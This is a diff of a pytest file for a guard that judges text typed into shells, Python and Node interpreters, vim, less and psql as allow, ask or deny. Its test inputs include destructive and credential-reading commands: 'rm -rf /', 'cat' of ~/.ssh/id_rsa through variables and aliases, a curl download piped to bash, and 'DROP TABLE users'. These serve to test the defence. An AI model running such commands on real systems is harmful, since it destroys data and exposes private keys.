@@ -1,4 +1,4 @@
-"""Text typed into running processes: gated in shells and interpreters, let through where it is an answer."""
+"""Text typed into running processes: judged for shells and interpreters, allowed where it is an answer."""
 
 from __future__ import annotations
 
@@ -48,7 +48,7 @@ def bash() -> ShellState:
         ("", "plain"),
     ],
 )
-def test_who_reads_what_is_typed(command: str | list[str], kind: str) -> None:
+def test_the_reader_of_typed_text(command: str | list[str], kind: str) -> None:
     assert shell_state(command, WHERE).kind == kind
 
 
@@ -70,20 +70,38 @@ def test_no_cut_hides_a_line(cuts: set[int]) -> None:
     assert actions[-1] == "deny" and set(actions[:-1]) <= {"allow"}
 
 
-def test_what_was_refused_is_not_remembered(bash: ShellState) -> None:
+def test_a_refused_line_changes_nothing(bash: ShellState) -> None:
     assert write(bash, "X=rm; rm -rf src\n", "$X -rf /\n") == ["ask", "ask"]
     assert write(bash, "ls\n") == ["allow"]
 
 
-def test_what_a_person_let_through_is_remembered(bash: ShellState) -> None:
-    bash.accept("X=rm; rm -rf src\n", default_policy())
-    assert write(bash, "$X -rf /\n") == ["deny"]
+def test_an_approved_line_counts_as_typed(bash: ShellState) -> None:
+    bash.accept("X=~/.ssh/id_rsa; rm -rf src\n", default_policy())
+    assert write(bash, "ls $X\n") == ["ask"]
 
 
-def test_variables_functions_and_directories_are_remembered(bash: ShellState) -> None:
-    assert write(bash, "X=rm\n", "$X -rf /\n") == ["allow", "deny"]
-    assert write(bash, 'wipe() { rm -rf "$1"; }\n') == ["ask"]
-    assert write(bash, "cd build\n", "rm -rf *\n", "cd /\n", "rm -rf *\n") == ["allow", "allow", "allow", "deny"]
+@pytest.mark.parametrize(
+    "lines",
+    [
+        ("X=rm\n", "$X -rf /\n"),
+        ("F=~/.ssh/id_rsa\n", "cat $F\n"),
+        ("F=~/.ssh/id_rsa\n", "cat ${F%x}\n"),
+        ("r() { rm $@; }\n", "r -rf /\n"),
+        ("alias l='rm -v'\n", "l -rf src\n"),
+        ("cd build\n", "rm -rf *\n"),
+        ("cd /\n", "rm -rf build\n"),
+        ("go() { cd /; }\n", "rm -rf build\n"),
+        ("echo 'rm -rf ~' > x.sh\n", "sh x.sh\n"),
+        ("curl -o x.sh https://x.example/x\n", "bash ./x.sh\n"),
+    ],
+)
+def test_a_line_that_depends_on_an_earlier_one_is_asked_about(bash: ShellState, lines: tuple[str, str]) -> None:
+    assert write(bash, *lines) == ["allow", "ask"]
+
+
+def test_a_line_that_sets_a_name_itself_does_not_depend_on_earlier_ones(bash: ShellState) -> None:
+    loop = "for x in a b; do echo $x; done\n"
+    assert write(bash, "D=1\n", "ls\n", loop, loop, "D=2; echo $D\n", "ls > log\n", "cat log\n") == ["allow"] * 7
 
 
 ANSWERS = [
@@ -109,7 +127,7 @@ def test_a_password_prompt_takes_one_line(bash: ShellState) -> None:
     assert judge_input("x\nrm -rf /\n", bash, default_policy(), hidden=True).action == "deny"
 
 
-def test_programs_that_only_ask_get_what_is_typed() -> None:
+def test_text_for_other_programs_is_not_judged() -> None:
     assert write(shell_state("npm init"), "rm -rf /\n", "\x03") == ["allow", "allow"]
 
 
@@ -130,7 +148,7 @@ def test_lines_that_belong_together_are_judged_together(bash: ShellState) -> Non
 
 def test_several_lines_in_one_write(bash: ShellState) -> None:
     assert write(bash, "ls\npwd\nrm -rf /\n") == ["deny"]
-    assert write(bash, "cat > x.sh <<'EOF'\necho hi\nEOF\nsh x.sh\n") == ["allow"]
+    assert write(bash, "cat > x.sh <<'EOF'\necho hi\nEOF\ncat x.sh\n", "sh x.sh\n") == ["allow", "ask"]
 
 
 def test_keys_that_change_the_line(bash: ShellState) -> None:
@@ -182,7 +200,7 @@ def test_in_a_pipe_no_key_edits(keys: str) -> None:
 @pytest.mark.parametrize(
     "command", ["python3", "python3 -", "python3 -iu x.py", "node -i", "python manage.py shell", "iex"]
 )
-def test_what_one_line_of_code_prepares_another_runs(command: str) -> None:
+def test_earlier_lines_of_code_count(command: str) -> None:
     shell = shell_state(command, WHERE)
     assert write(shell, "import os\n", "x = 'rm -rf ~/work'\n", "print(1)\n") == ["allow"] * 3
     assert write(shell, "os.system(x)\n") == ["ask"]
@@ -206,14 +224,14 @@ def test_shells_by_other_names(command: str) -> None:
     assert write(shell_state(command, WHERE), "rm -rf ~/work\n") == ["ask"]
 
 
-def test_what_stands_behind_a_bang_in_an_editor() -> None:
+def test_text_behind_a_bang_in_an_editor_is_a_command() -> None:
     shell = shell_state("vim notes.md", WHERE)
     assert write(shell, "irm -rf ~/work is bad\n", "\x1b:w\r", "\x1b:!ls\r") == ["allow"] * 3
     assert write(shell, "\x1b:!rm -rf ~/work\r") == ["ask"]
     assert write(shell_state("less x", WHERE), "!rm -rf ~/work\r") == ["ask"]
 
 
-def test_what_a_line_means_depends_on_what_was_typed_before(bash: ShellState) -> None:
+def test_the_context_of_a_line_changes_with_earlier_lines(bash: ShellState) -> None:
     before = bash.context()
     assert write(bash, "cd src\n") == ["allow"] and bash.context() != before
     at_src = bash.context()
@@ -221,7 +239,7 @@ def test_what_a_line_means_depends_on_what_was_typed_before(bash: ShellState) ->
     assert shell_state("bash", WHERE).context() == before
 
 
-def test_old_commands_by_their_first_letters(bash: ShellState) -> None:
+def test_history_expansion_is_asked_about(bash: ShellState) -> None:
     assert write(bash, "!rm\n") == ["ask"]
     for line in ("true; !rm", "^echo ^^", "sudo !!", 'echo "!$"', "!-2", "fc -s", "fc -e vi"):
         assert write(bash, f"{line}\n") == ["ask"], line
@@ -238,7 +256,7 @@ def test_old_commands_by_their_first_letters(bash: ShellState) -> None:
     assert write(shell_state("sh", WHERE, terminal=False), 'node -e "if(!x) y()"\n') == ["allow"]
 
 
-def test_an_interpreter_is_gated_as_such() -> None:
+def test_text_for_an_interpreter_is_judged_as_code() -> None:
     python = shell_state("python3", WHERE)
     assert write(python, "import os, shutil\n", "os.getcwd()\n", "x = [1, 2]\n") == ["allow"] * 3
     assert write(python, "os.system('rm -rf /')\n", "shutil.rmtree('/')\n", "shutil.rmtree(x)\n") == [
@@ -250,7 +268,7 @@ def test_an_interpreter_is_gated_as_such() -> None:
     assert write(node, "1 + 1\n", "require('child_process').execSync('rm -rf /')\n") == ["allow", "deny"]
 
 
-def test_a_database_client_is_gated_as_such() -> None:
+def test_text_for_a_database_client_is_judged_as_statements() -> None:
     psql = shell_state("psql shop", WHERE)
     assert write(psql, "select 1;\n", "DROP TABLE users;\n") == ["allow", "ask"]
     assert write(psql, "drop\n", "table users;\n") == ["allow", "ask"]
@@ -258,7 +276,7 @@ def test_a_database_client_is_gated_as_such() -> None:
     assert write(psql, "\\! rm -rf /\n", "\\q\n") == ["deny", "allow"]
 
 
-def test_who_reads_changes_with_what_is_started(bash: ShellState) -> None:
+def test_a_started_program_becomes_the_reader(bash: ShellState) -> None:
     def reader() -> str:
         return bash.kind
 
